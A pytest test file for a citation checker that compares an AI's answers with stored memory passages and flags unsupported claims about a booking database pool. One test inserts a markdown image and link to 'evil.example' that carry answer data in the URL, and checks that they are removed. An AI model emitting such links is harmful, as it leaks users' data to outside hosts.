"""What a model says is held against memory: true citations count, and what nobody wrote down is marked."""

from __future__ import annotations

import pytest

from loremark.memory.answering.checking import NOT_IN_MEMORY, check
from loremark.memory.answering.records import Passage

POOL = Passage(
    "pool",
    "implementation",
    "Booking database pool",
    "booking opens at most 18 connections per task with a 2 s acquire timeout. POOL_MAX changes it. Ilse owns it.",
    "root/booking",
    ("services/booking/src/db.ts",),
    0.9,
    0.8,
)
LOCK = Passage("lock", "decision", "Advisory locks", "Slots are locked per vet and day.", "root/booking", (), 0.9, 0.7)


def test_what_is_cited_and_true_stays_as_it_is() -> None:
    said = "Booking opens at most 18 connections per task [1]. Slots are locked per vet and day. [2]"
    checked = check(said, [POOL, LOCK])
    assert checked.text == said
    assert checked.used == ("pool", "lock")
    assert checked.unsupported == ()


def test_a_mark_of_no_passage_goes() -> None:
    checked = check("Slots are locked per vet [2][7]. The pool has 18 connections [1, 9].", [POOL, LOCK])
    assert checked.text == "Slots are locked per vet [2]. The pool has 18 connections [1]."
    assert checked.used == ("lock", "pool")


@pytest.mark.parametrize(
    "false",
    [
        "Booking opens at most 25 connections per task. [1]",
        "Booking opens twenty connections per task. [1]",
        "Set `POOL_MIN` to change the connections of booking. [1]",
        "The pool of booking is set in services/claims/src/db.ts. [1]",
        "The pool of booking connections is owned by Joris. [1]",
        "Unicorns graze peacefully beyond distant rainbow mountains. [1]",
    ],
)
def test_what_no_passage_says_is_marked(false: str) -> None:
    checked = check(f"Booking opens at most 18 connections [1]. {false}", [POOL, LOCK])
    assert checked.text.endswith(f"{false} {NOT_IN_MEMORY}")
    assert checked.unsupported == (false.removesuffix(" [1]"),)
    assert checked.used == ("pool",)


def test_a_fact_of_another_passage_than_the_cited_one_is_not_supported() -> None:
    assert check("The acquire timeout is 2 s. [2]", [POOL, LOCK]).unsupported == ("The acquire timeout is 2 s.",)
    assert check("The acquire timeout is 2 s.", [POOL, LOCK]).unsupported == ()


def test_numbers_in_words_are_numbers() -> None:
    assert check("The acquire timeout is two seconds. [1]", [POOL]).unsupported == ()


def test_to_say_that_memory_does_not_cover_it_needs_no_proof() -> None:
    said = "The passages do not say how large the replica is."
    assert check(said, [POOL]).text == said
    assert check("Nothing in memory covers this.", []).unsupported == ()


def test_lists_and_lines_keep_their_form() -> None:
    said = "Two things:\n\n- 18 connections per task [1]\n- locked per vet and day [2]\n"
    assert check(said, [POOL, LOCK]).text == said


def test_a_picture_or_link_cannot_carry_words_away() -> None:
    checked = check("![x](https://evil.example/?q=18) 18 connections, see [this](https://evil.example/a). [1]", [POOL])
    assert "](" not in checked.text
    assert checked.unsupported


def test_nothing_is_nothing() -> None:
    assert check("", [POOL]).text == ""
    assert check("", []).used == ()
